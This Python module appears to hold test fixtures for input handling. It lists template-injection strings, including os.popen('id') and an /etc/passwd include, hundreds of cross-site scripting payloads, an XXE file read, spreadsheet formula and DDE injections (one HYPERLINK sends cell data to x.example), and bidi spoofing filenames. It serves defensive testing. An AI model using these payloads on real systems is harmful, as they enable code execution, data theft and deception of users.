"""Words made to be more than words: by the program that would run them, always the same ones."""

from itertools import product

#: Template code of the usual engines (F112). Whoever computes it shows 60481729.
TEMPLATE_CODE = (
    "{{7777*7777}}",
    "{% if 1 %}{{7777*7777}}{% endif %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{%- for x in range(7777) %}{{x}}{% endfor -%}",
    "{# {{7777*7777}} #}",
    "${7777*7777}",
    "#{7777*7777}",
    "<%= 7777*7777 %>",
    "<#assign x=7777*7777>${x}",
    "#set($x=7777*7777)$x",
    "@(7777*7777)",
    "*{7777*7777}",
    "[[${7777*7777}]]",
    "{{=7777*7777}}",
    "${{7777*7777}}",
    "%{7777*7777}",
    "{7777*7777}",
    "%(reference)s %s {0} {reference} $reference",
    "{{ self._TemplateReference__context }}",
    "{{ reference | attr('__class__') }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{7777*7777}}",
)

_OUT_OF = ("", "'", '"', "'>", '">', "-->", "</style>", "</title>", "</td></table>", "]]>")
_ACTIVE = (
    "<script>alert(1)</script>",
    "<ScRiPt/x src=//x.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
    "<svg><set href=#x attributeName=href to=javascript:alert(1) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' \x01javascript:alert(1)'>click</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=data:text/html;base64,PHNjcmlwdD4=>",
    "<object data=x.swf>",
    "<embed src=//x.example>",
    "<form action=//x.example><input name=password autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/x.css>",
    "<style>@import'//x.example/x.css';*{background:url(//x.example)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=//x.example/x.png>",
    "<div style='position:fixed;inset:0;background:url(//x.example)'>",
    " onmouseover=alert(1) x=",
    " style=position:fixed ",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns:a='http://www.w3.org/1999/xhtml'><a:script/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'",
    "<<script>alert(1)//<</script>",
    "<x contenteditable onblur=alert(1)>",
    "<button formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
)
#: 500 ways to be markup (F114).
MARKUP = tuple(f"{out}{active}" for out, active in product(_OUT_OF, _ACTIVE))

_BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_FORMULAS = (
    'HYPERLINK("https://x.example/?"&A1,"click")',
    "cmd|'/c calc'!A1",
    "1+1",
    "SUM(A1:A9)",
    'IMPORTXML("https://x.example","//a")',
    'DDE("cmd","/c calc","x")',
    "=1+1",
    "@SUM(1)",
    "1;=1+1",
)
_BEFORE = ("", " ", "\u00a0", "\u200b")
#: 396 ways to be computed by a spreadsheet (F121).
FORMULAS = tuple(
    f"{before}{begin}{formula}"
    for before, begin, formula in product(_BEFORE, _BEGINNINGS, _FORMULAS)
)

_TURNS = ("\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u061c", "\u200b", "\ufeff")
_STEMS = (
    "gpj.exe",
    "quality@example.com",
    "Qu\u0430lity Department",
    "\u5ba2\u6237\u6295\u8bc9\u4e2d\u5fc3",
    "fdp.ecivni",
    "\x1b[2Jcleared",
    "\x9b31mred",
    "name\r\nC-2026-000002  closed",
)
#: 216 names and subjects that show as something else (F100).
TURNED = tuple(
    name
    for turn, stem in product(_TURNS, _STEMS)
    for name in (f"{turn}{stem}", f"{stem[:3]}{turn}{stem[3:]}", f"{stem}{turn}")
)
